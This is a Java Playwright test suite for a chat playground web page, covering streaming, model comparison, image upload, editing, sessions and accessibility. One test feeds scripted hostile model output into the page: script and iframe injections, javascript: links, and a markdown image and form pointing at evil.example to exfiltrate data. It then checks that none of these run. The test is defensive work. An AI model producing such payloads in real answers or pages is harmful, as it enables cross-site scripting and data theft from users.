package dev.jarvis.server.browser;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.FilePayload;
import dev.jarvis.testkit.Await;
import dev.jarvis.testkit.provider.Gate;
import dev.jarvis.testkit.provider.Script;
import dev.jarvis.testkit.provider.Scripts;
import dev.jarvis.testkit.provider.Step;
import dev.jarvis.testkit.provider.Usage;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

/** The playground: a conversation with a model, and everything that can come of it. */
class ChatPageTest extends BrowserTest {
    private static final byte[] PIXEL = Base64.getDecoder()
            .decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==");

    private static final String FORGOTTEN =
            "async () => (await indexedDB.databases()).every(({ name }) => name !== 'jarvis.chat')";
    private static final String KEPT = """
            async () => {
                if (!(await indexedDB.databases()).some(({ name }) => name === 'jarvis.chat')) {
                    return false;
                }
                const done = (request) => new Promise((resolve) => { request.onsuccess = () => resolve(request.result); });
                const database = await done(indexedDB.open('jarvis.chat'));
                const all = await done(database.transaction('conversations').objectStore('conversations').getAll());
                database.close();
                return JSON.stringify(all).includes('"cost":[{');
            }
            """;

    @BeforeAll
    void models() {
        server.createModel("seer", Map.of("supports_vision", true, "max_tokens", 1000));
        server.createModel("plain", Map.of("max_tokens", 1000));
    }

    @BeforeEach
    void forget() {
        provider.reset();
    }

    @Test
    void anAnswerShowsItsTokensAndWhatItCost() {
        provider.script(Script.chat().words("Hello", " **there**").usage(Usage.of(1000, 2000)));
        Page page = administrator(Look.ENGLISH).open("/chat?model=plain");

        say(page, "Hi");

        assertThat(page.locator(".markdown strong")).hasText("there");
        // 1000 × 1 USD and 2000 × 2 USD a million
        assertThat(page.locator(".chat-cost")).hasText("$0.005");
        assertThat(page.locator(".chat-facts")).containsText("1,000 → 2,000 tokens");
        assertThat(page.locator(".chat-facts")).containsText("first word");
    }

    @Test
    void aStreamIsStoppedKeptAndAskedForAgain() {
        Gate gate = new Gate();
        provider.scriptNext(Scripts.tokensThen(3, new Step.Pause(gate), new Step.End()));
        Page page = administrator(Look.CHINESE).open("/chat?model=plain");

        say(page, "数到十");
        gate.awaitReached();
        assertThat(page.locator(".markdown")).containsText("t2");
        page.getByRole(AriaRole.BUTTON, named("^停止$")).first().click();

        seen(page.getByText("已停止"));
        assertThat(page.locator(".markdown")).containsText("t2");
        gate.open();
        provider.script(Script.chat().words("一二三"));
        page.getByRole(AriaRole.BUTTON, named("重新回答")).click();
        assertThat(page.locator(".markdown")).hasText("一二三");
        page.getByRole(AriaRole.GROUP, new Page.GetByRoleOptions().setName("回答版本"))
                .getByRole(AriaRole.BUTTON)
                .first()
                .click();
        assertThat(page.locator(".markdown")).containsText("t2");
    }

    @Test
    void twoModelsAnswerTheSameQuestionSideBySide() {
        provider.whenModel("seer", Script.chat().words("from the seer"));
        provider.whenModel("plain", Script.chat().words("from the plain one"));
        Visitor visitor = administrator(Look.ENGLISH);
        Page page = visitor.open("/chat?model=plain");

        page.getByRole(AriaRole.BUTTON, named("^Compare$")).click();
        choose(page, "Model 2", "Test model seer");
        say(page, "Who are you?");

        assertThat(page.getByRole(AriaRole.REGION, new Page.GetByRoleOptions().setName("Answer of plain")))
                .containsText("from the plain one");
        assertThat(page.getByRole(AriaRole.REGION, new Page.GetByRoleOptions().setName("Answer of seer")))
                .containsText("from the seer");
        assertThat(page.locator(".chat-cost")).hasCount(2);
        visitor.screenshot("chat-compare");
    }

    @Test
    void aPictureGoesToModelsThatSeeAndToNoOthers() {
        provider.script(Script.chat().words("A red dot."));
        Page page = administrator(Look.ENGLISH).open("/chat?model=seer");

        page.locator("input[type=file]").setInputFiles(new FilePayload("dot.png", "image/png", PIXEL));
        seen(page.getByAltText("dot.png"));
        say(page, "What is this?");

        assertThat(page.locator(".markdown")).hasText("A red dot.");
        assertThat(provider.lastReceived()
                        .json()
                        .at("/messages/0/content/1/image_url/url")
                        .asString())
                .startsWith("data:image/png;base64,");
        choose(page, "Model", "Test model plain");
        assertThat(page.getByRole(AriaRole.BUTTON, named("Add a picture"))).isDisabled();
    }

    @Test
    void onlyParametersThatAreSetAreSent() {
        provider.script(Script.chat());
        Page page = administrator(Look.ENGLISH).open("/chat?model=plain");

        say(page, "one");
        assertThat(page.locator(".markdown")).hasCount(1);
        assertThat(provider.lastReceived().json().propertyNames()).doesNotContain("temperature", "top_p", "max_tokens");
        page.getByRole(AriaRole.BUTTON, named("^Settings$")).click();
        page.getByLabel("System prompt").fill("Be brief.");
        page.getByLabel("Temperature").fill("0.3");
        page.keyboard().press("Escape");
        say(page, "two");

        assertThat(page.locator(".markdown")).hasCount(2);
        assertThat(provider.lastReceived().json().path("temperature").asDouble())
                .isEqualTo(0.3);
        assertThat(provider.lastReceived().json().at("/messages/0/content").asString())
                .isEqualTo("Be brief.");
    }

    @Test
    void anEditedQuestionStandsBesideTheOldOne() {
        provider.script(Script.chat().words("first answer"));
        Page page = administrator(Look.ENGLISH).open("/chat?model=plain");
        say(page, "first question");
        assertThat(page.locator(".markdown")).hasText("first answer");

        provider.script(Script.chat().words("second answer"));
        page.getByRole(AriaRole.BUTTON, named("^Edit$")).click();
        page.getByLabel("Edit your message").fill("second question");
        page.getByRole(AriaRole.BUTTON, named("Send again")).click();

        assertThat(page.locator(".markdown")).hasText("second answer");
        assertThat(provider.lastReceived().json().path("messages").size()).isEqualTo(1);
        page.getByRole(AriaRole.BUTTON, named("Earlier version")).click();
        assertThat(page.locator(".markdown")).hasText("first answer");
    }

    @Test
    void shiftEnterBreaksTheLineAndAnInputMethodsEnterSendsNothing() {
        int before = provider.received().size();
        Page page = administrator(Look.CHINESE).open("/chat?model=plain");
        Locator box = page.getByLabel("消息内容");

        box.fill("第一行");
        box.press("Shift+Enter");
        box.evaluate(
                "(area) => area.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, isComposing: true }))");

        assertThat(box).hasValue("第一行\n");
        assertThat(provider.received()).hasSize(before);
    }

    @Test
    void m_hostileOutputRunsNothingLoadsNothingAndBreaksNothing() {
        provider.script(Script.chat()
                .words(
                        "<script>window.hit = 1</script><img src=x onerror='window.hit = 2'><style>body{display:none}</style>\n\n",
                        "[a](javascript:window.hit=3) [b](data:text/html,x) ![c](https://evil.example/?said=secret)\n\n",
                        "<iframe src='javascript:window.hit=4'></iframe> <a href='javascript:window.hit=5'>d</a>\n\n",
                        "$\\href{javascript:window.hit=6}{x}$ $x^2$\n\n",
                        "<form action='https://evil.example'><input name=p></form>\n\n",
                        "y".repeat(300_000),
                        "\n\n**the end**"));
        Visitor visitor = administrator(Look.ENGLISH);
        Page page = visitor.open("/chat?model=plain");

        say(page, "evil");

        assertThat(page.locator(".markdown strong")).hasText("the end");
        assertThat(page.locator(".katex").first()).isAttached();
        seen(page.getByText("<script>window.hit = 1</script>"));
        assertThat(page.evaluate("window.hit")).isNull();
        assertThat(page.locator(".markdown").locator("script, style, iframe, form, img, [onerror]"))
                .hasCount(0);
        List<String> links =
                page.locator(".markdown a").evaluateAll("(all) => all.map((one) => one.href)") instanceof List<?> found
                        ? found.stream().map(String::valueOf).toList()
                        : List.of();
        assertThat(links).containsExactly("https://evil.example/?said=secret");
        assertThat(page.locator(".markdown a")).hasAttribute("rel", Pattern.compile("noopener"));
    }

    @Test
    void aProviderThatFailsIsToldInWords() {
        provider.script(Scripts.serverError(500));
        Page page = administrator(Look.ENGLISH).expects(502).expects(503).open("/chat?model=plain");

        say(page, "Hi");

        seen(page.getByText("The provider fails at the moment"));
        provider.script(Script.chat().words("back again"));
        assertThat(page.getByRole(AriaRole.BUTTON, named("Try again"))).isEnabled();
    }

    @Test
    void conversationsOutliveAReloadAndNotALogout() {
        provider.script(Script.chat().words("remember me"));
        Page page = administrator(Look.ENGLISH).open("/chat?model=plain");
        say(page, "A question to keep");
        seen(page.locator(".chat-cost"));
        Await.until("the browser keeps the conversation", () -> (Boolean) page.evaluate(KEPT));

        page.reload();
        page.getByRole(AriaRole.BUTTON, named("^A question to keep$")).click();
        assertThat(page.locator(".markdown")).hasText("remember me");
        page.getByRole(AriaRole.BUTTON, named("Your account")).click();
        page.getByRole(AriaRole.MENUITEM, new Page.GetByRoleOptions().setName("Log out"))
                .click();
        page.waitForURL("**/login");
        Await.until("the browser forgets the conversation", () -> (Boolean) page.evaluate(FORGOTTEN));
    }

    /** A session ends under somebody who is writing: they log in over the page and go on. */
    @Test
    void whatIsTypedOutlivesASessionThatRanOut() {
        String id = server.admin()
                .post(
                        "/api/v1/users",
                        Map.of("username", "writer", "email", "writer@example.com", "password", "the first password"))
                .expect(201)
                .text("/id");
        provider.script(Script.chat().words("still here"));
        Visitor visitor = visitor(Look.CHINESE).logIn("writer", "the first password");
        Page page = visitor.expects(401).open("/chat?model=plain");
        Locator box = page.getByLabel("消息内容");
        box.fill("写到一半的话");

        server.admin()
                .put("/api/v1/users/" + id, Map.of("password", "the second password"))
                .expect(200);
        Locator dialog = page.getByRole(AriaRole.DIALOG, named("请重新登录"));
        dialog.getByRole(AriaRole.TEXTBOX, new Locator.GetByRoleOptions().setName("密码"))
                .fill("the first password");
        dialog.getByRole(AriaRole.TEXTBOX, new Locator.GetByRoleOptions().setName("密码"))
                .press("Enter");
        seen(dialog.getByRole(AriaRole.ALERT));
        visitor.screenshot("session-ended");
        dialog.getByRole(AriaRole.TEXTBOX, new Locator.GetByRoleOptions().setName("密码"))
                .fill("the second password");
        dialog.getByRole(AriaRole.TEXTBOX, new Locator.GetByRoleOptions().setName("密码"))
                .press("Enter");

        gone(dialog);
        assertThat(box).hasValue("写到一半的话");
        box.press("Enter");
        assertThat(page.locator(".markdown")).hasText("still here");
    }

    @Test
    void aWholeConversationIsHadByKeyboard() {
        provider.script(Script.chat().words("first answer"));
        Page page = administrator(Look.ENGLISH).open("/chat?model=plain");

        assertThat(page.locator(".talk-box textarea")).isFocused();
        page.keyboard().type("first question");
        page.keyboard().press("Enter");
        assertThat(page.locator(".markdown")).hasText("first answer");
        seen(page.locator(".chat-cost"));
        provider.script(Script.chat().words("second answer"));
        goTo(page, "Shift+Tab", "Edit");
        page.keyboard().press("Enter");
        assertThat(page.getByLabel("Edit your message")).isFocused();
        page.keyboard().press("Control+A");
        page.keyboard().type("second question");
        page.keyboard().press("Enter");
        assertThat(page.locator(".markdown")).hasText("second answer");
        goTo(page, "Tab", "Earlier version");
        page.keyboard().press("Enter");
        assertThat(page.locator(".markdown")).hasText("first answer");
        goTo(page, "Shift+Tab", "Model");
        page.keyboard().press("Enter");
        page.keyboard().type("seer");
        page.keyboard().press("Enter");
        assertThat(page.locator(".chat-picker").first()).containsText("Test model seer");
    }

    /** As somebody goes who has no mouse, until the focus is where it is wanted. */
    private static void goTo(Page page, String key, String name) {
        Locator wanted = page.getByLabel(name, new Page.GetByLabelOptions().setExact(true));
        for (int steps = 0; steps < 60; steps++) {
            page.keyboard().press(key);
            if ((Boolean) wanted.last().evaluate("one => one === document.activeElement")) {
                return;
            }
        }
        throw new AssertionError("no way to '" + name + "' by " + key);
    }

    @Test
    void theChatIsForEveryoneAndForPhones() {
        provider.script(
                Script.chat()
                        .reasoning("Let me see.")
                        .words(
                                "Some `code`:\n\n```python\nprint('hi')  # a comment\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[link](https://example.com)"));
        for (Look look : List.of(Look.ENGLISH, Look.CHINESE.dark().on(Look.Size.PHONE))) {
            Visitor visitor = administrator(look);
            Page page = visitor.open("/chat?model=plain");
            page.locator(".talk-box textarea").fill("Show me");
            page.locator(".talk-box textarea").press("Enter");
            assertThat(page.locator(".markdown .token").first()).isAttached();
            seen(page.locator(".chat-cost"));

            Axe.findsNothing(page);
            assertThat((Boolean) page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"))
                    .as("nothing hangs over the edge of " + look)
                    .isTrue();
            visitor.screenshot("chat");
        }
    }

    private static void say(Page page, String text) {
        Locator box = page.locator(".talk-box textarea");
        box.fill(text);
        box.press("Enter");
    }

    private static void choose(Page page, String picker, String model) {
        page.getByRole(
                        AriaRole.COMBOBOX,
                        new Page.GetByRoleOptions().setName(picker).setExact(true))
                .click();
        page.locator(".ant-select-dropdown:visible").getByText(model).first().click();
    }

    private static Page.GetByRoleOptions named(String pattern) {
        return new Page.GetByRoleOptions().setName(Pattern.compile(pattern));
    }
}
